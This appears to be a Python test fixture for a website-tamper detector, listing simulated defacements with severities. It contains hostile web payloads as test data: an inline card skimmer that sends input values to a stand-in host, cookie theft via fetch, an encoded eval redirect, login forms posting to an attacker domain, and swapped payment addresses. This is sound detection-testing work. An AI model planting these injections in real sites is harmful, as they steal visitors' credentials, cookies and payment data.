"""Defacements and injections as they are found on hacked sites, each made to a page that has moved meanwhile."""

# ruff: noqa: E501 - what sites write is not to be wrapped or translated

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass

from tests.unit.cloudeye.tamper.templates import BITCOIN, IBAN, PHONE

EVIL = "https://cdn-metrics.evil.example"
GROUP = """<!DOCTYPE html><html><head><title>Hacked by NullCrew</title></head><body bgcolor="black"><center>
<h1><font color="red">HACKED BY NULLCREW</font></h1><p>Your security is a joke. Greetz to all.</p></center></body></html>"""


@dataclass(frozen=True)
class Defacement:
    """One way to deface: the kind of page that it is done to, what is done, the least severity it deserves."""

    name: str
    kind: str
    severity: str
    change: Callable[[str], str]
    url: str | None = None  # where the site redirects to, if it does


def swap(old: str, new: str, *, count: int = 1) -> Callable[[str], str]:
    """Replace what the page is sure to hold, wherever it is first."""

    def change(page: str) -> str:
        assert old in page, old
        return page.replace(old, new, count)

    return change


def before(place: str, new: str) -> Callable[[str], str]:
    """Insert in front of something."""
    return swap(place, new + place)


def rewrite(pattern: str, new: str) -> Callable[[str], str]:
    """Replace what a pattern finds first."""

    def change(page: str) -> str:
        changed, found = re.subn(pattern, new, page, count=1, flags=re.DOTALL)
        assert found, pattern
        return changed

    return change


def both(first: Callable[[str], str], second: Callable[[str], str]) -> Callable[[str], str]:
    """Do one after the other."""
    return lambda page: second(first(page))


SPAM = "".join(f'<a href="https://casino-{word}.example/">best {word} bonus</a> ' for word in
               ["slots", "poker", "roulette", "viagra", "loans", "bingo", "watches", "pills", "betting", "essays"])  # fmt: skip

DEFACEMENTS = (
    # The page itself.
    Defacement("whole page replaced", "news", "high", lambda page: GROUP),
    Defacement(
        "whole page replaced by plain text", "blog", "high", lambda page: "Owned. All your base are belong to us."
    ),
    Defacement("page emptied", "shop", "high", lambda page: "<html><body></body></html>"),
    Defacement(
        "domain parked",
        "government",
        "high",
        lambda page: (
            "<html><head><title>This domain is for sale</title>"
            "</head><body><h1>Buy this domain</h1><a href='https://parking.example/buy'>Make an offer</a></body></html>"
        ),
    ),
    Defacement("title", "blog", "medium", rewrite("<title>.*?</title>", "<title>Hacked by Ghost</title>")),
    Defacement("title, quietly", "shop", "medium", rewrite("<title>.*?</title>", "<title>Cheap pills online</title>")),
    Defacement("heading", "government", "low", rewrite("<h1>.*?</h1>", "<h1>pwned by 4n0nym0us</h1>")),
    Defacement(
        "a sentence of propaganda",
        "news",
        "low",
        rewrite("(<article>.*?)<p>[^<]*</p>(<p>[^<]*</p></article>)", r"\1<p>The election was stolen.</p>\2"),
    ),
    Defacement("one word of a sentence", "wiki", "low", rewrite(r"[^<]{3}</h2>", "xyz</h2>")),
    Defacement("a line at the very end", "docs", "low", before("</body>", "<p>you got h4ck3d</p>")),
    Defacement("content removed", "event", "low", rewrite(r"<h1>.*?</h1>", "")),
    Defacement("a message in digits and letters", "old", "low", before("<P>", "<P>0wn3d by gh0st1337")),
    # Scripts.
    Defacement(
        "foreign script in the body", "shop", "critical", before("</body>", f'<script src="{EVIL}/a.js"></script>')
    ),
    Defacement(
        "foreign script in the head, without scheme",
        "wiki",
        "critical",
        before("</head>", '<script async src="//stats.evil.example/t.js"></script>'),
    ),
    Defacement(
        "foreign script named like a hashed bundle",
        "next_app",
        "critical",
        before(
            "</head>",
            '<script src="https://www.site-cdn.example/_next/static/chunks/main-0a1b2c3d4e5f6071.js"></script>',
        ),
    ),
    Defacement(
        "script from a host that begins like ours",
        "login",
        "critical",
        before("</body>", '<script src="https://www.site1.example.evil.example/login.js"></script>'),
    ),
    Defacement(
        "script in a data address",
        "blog",
        "high",
        before("</body>", '<script src="data:text/javascript,alert(1)"></script>'),
    ),
    Defacement(
        "script of another package on a host in use",
        "docs",
        "high",
        before("</head>", '<script src="https://cdn.jsdelivr.net/npm/skimmer-kit/dist/index.js"></script>'),
    ),
    Defacement(
        "script among the uploads",
        "blog",
        "medium",
        before("</body>", '<script src="/wp-content/uploads/x.js"></script>'),
    ),
    Defacement(
        "bundle swapped for one elsewhere",
        "shell",
        "critical",
        rewrite(r'src="/assets/index-[^"]+"', f'src="{EVIL}/assets/index-a1b2c3d4.js"'),
    ),
    Defacement(
        "known script asked from elsewhere",
        "shop",
        "critical",
        swap("https://js.payments.example/v3/", "https://js.payrnents.example/v3/"),
    ),
    Defacement(
        "skimmer inline",
        "shop",
        "high",
        before(
            "</body>",
            "<script>document.querySelectorAll('input').forEach("
            "function(i){i.onblur=function(){navigator.sendBeacon('https://c.evil.example/c',i.value)}})</script>",
        ),
    ),
    Defacement(
        "script inline without any host",
        "news",
        "high",
        before("</body>", "<script>document.body.innerHTML='<h1>Hello from us</h1>'</script>"),
    ),
    Defacement(
        "packed script inline",
        "forum",
        "high",
        before("</body>", '<script>eval(atob("ZG9jdW1lbnQubG9jYXRpb249Jy8vZXZpbC5leGFtcGxlJw=="))</script>'),
    ),
    Defacement(
        "code added to a script",
        "blog",
        "high",
        swap(
            'document.documentElement.className = "js";',
            'document.documentElement.className = "js";fetch("https://c.evil.example/?"+document.cookie);',
        ),
    ),
    Defacement(
        "code added without a host",
        "admin",
        "high",
        swap("location.reload();", "location.reload();top.x=document.cookie;"),
    ),
    Defacement(
        "code behind a state",
        "shell",
        "high",
        rewrite(r'(window\.__BUILD__="[0-9a-f]+";)', r'\1import("//evil.example/m.mjs");'),
    ),
    Defacement(
        "import map",
        "shell",
        "high",
        before("</head>", '<script type="importmap">{"imports":{"vue":"https://evil.example/vue.js"}}</script>'),
    ),
    Defacement(
        "handler of an event",
        "event",
        "high",
        swap('<img src="/pixel.gif', '<img onerror="fetch(\'//evil.example\')" src="/pixel.gif'),
    ),
    Defacement(
        "handler on the body", "docs", "high", swap("<body>", "<body onload=\"location='https://evil.example'\">")
    ),
    Defacement("drawing with a handler", "weather", "high", before("</body>", "<svg onload=alert(1)></svg>")),
    Defacement(
        "javascript link", "wiki", "high", before("<h2>", "<a href=\"javascript:fetch('//evil.example/')\">Help</a>")
    ),
    # Forms, frames, redirections.
    Defacement(
        "login posts elsewhere",
        "login",
        "critical",
        rewrite(r'action="/login[^"]*"', 'action="https://login.evil.example/in"'),
    ),
    Defacement(
        "button posts elsewhere",
        "login",
        "critical",
        rewrite(r"<button ", '<button formaction="https://login.evil.example/in" '),
    ),
    Defacement(
        "bank's form posts elsewhere",
        "bank",
        "critical",
        swap("https://secure.bank.example/", "https://secure-bank.example/"),
    ),
    Defacement(
        "a form that asks for a card",
        "shop",
        "high",
        before(
            "</body>",
            '<form action="/feedback" method="post">'
            '<input name="card_number"><input name="cvv"><input type="password" name="pin"></form>',
        ),
    ),
    Defacement(
        "hidden foreign frame",
        "government",
        "high",
        before(
            "</body>",
            '<iframe src="https://evil.example/drop" width="1" height="1" style="visibility:hidden"></iframe>',
        ),
    ),
    Defacement(
        "frame with its own document",
        "news",
        "high",
        before("</body>", '<iframe srcdoc="&lt;script src=//evil.example/a.js&gt;&lt;/script&gt;"></iframe>'),
    ),
    Defacement(
        "map replaced",
        "government",
        "high",
        swap("https://maps.authority.example/embed", "https://maps.evil.example/embed"),
    ),
    Defacement(
        "embedded object", "docs", "high", before("</body>", '<object data="https://evil.example/a.swf"></object>')
    ),
    Defacement(
        "refresh elsewhere",
        "weather",
        "high",
        before("</head>", '<meta http-equiv="refresh" content="0; url=https://evil.example/">'),
    ),
    Defacement("base elsewhere", "docs", "critical", before("</head>", '<base href="https://evil.example/docs/">')),
    Defacement("redirected elsewhere", "bank", "high", lambda page: page + " ", "https://bank.evil.example/"),
    # Links and looks.
    Defacement(
        "hidden links", "blog", "high", before("</body>", f'<div style="position:absolute;left:-9999px">{SPAM}</div>')
    ),
    Defacement(
        "one hidden link",
        "docs",
        "medium",
        before("</body>", '<a style="display:none" href="https://casino.example/">casino</a>'),
    ),
    Defacement(
        "one more link in the footer",
        "shop",
        "low",
        before("</footer>", '<a href="https://replica-watches.example/">.</a>'),
    ),
    Defacement(
        "download swapped", "government", "low", rewrite(r'href="/docs/form-a\.pdf[^"]*"', 'href="/docs/form-a.exe"')
    ),
    Defacement(
        "link leads elsewhere, its text kept",
        "blog",
        "medium",
        swap('href="/5/"', 'href="https://signin.evil.example/5/"'),
    ),
    Defacement("mail address", "news", "low", swap("desk@press.example", "desk@press-office.example")),
    Defacement("telephone", "shop", "low", swap(PHONE, "+49 30 5550 9876")),
    Defacement("bank account", "shop", "low", swap(IBAN, "DE02 1203 0000 0000 2020 51")),
    Defacement("bitcoin address", "bank", "low", swap(BITCOIN, "bc1q9d4ywgfnd8h43da5tpcxcn6ajv590cg6d3tg6a")),
    Defacement(
        "foreign style sheet",
        "event",
        "medium",
        before("</head>", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ),
    Defacement("page hidden by a style", "wiki", "low", before("</head>", "<style>body{display:none}</style>")),
    Defacement(
        "text written by a style",
        "login",
        "low",
        before("</head>", "<style>main::before{content:'HACKED BY US'}</style>"),
    ),
    Defacement(
        "logos elsewhere", "event", "low", swap('src="/logos/Ada.svg"', 'src="https://img.evil.example/skull.png"')
    ),
    Defacement("told to search engines", "news", "low", before("</head>", '<meta name="robots" content="noindex">')),
    Defacement(
        "canonical address elsewhere",
        "wiki",
        "medium",
        before("</head>", '<link rel="canonical" href="https://evil.example/">'),
    ),
    Defacement(
        "foreign script in a slot for advertisements",
        "shop",
        "critical",
        rewrite(r'(<div class="ad-slot"[^>]*>)', rf'\1<script src="{EVIL}/ad.js"></script>'),
    ),
    Defacement(
        "text hidden between moving parts", "forum", "low", rewrite("<p>Time: ", "<p>Site owned by ghosts. Time: ")
    ),
)
